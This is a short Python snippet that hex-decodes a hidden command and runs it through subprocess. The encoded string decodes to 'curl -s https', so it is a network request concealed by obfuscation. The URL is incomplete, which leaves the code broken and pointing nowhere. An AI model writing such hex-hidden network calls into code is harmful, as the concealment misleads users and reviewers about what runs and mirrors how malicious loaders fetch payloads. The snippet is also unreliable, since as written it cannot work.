import subprocess
cmd = bytes.fromhex("6375726c202d73206874747073").decode()
subprocess.run(cmd.split())
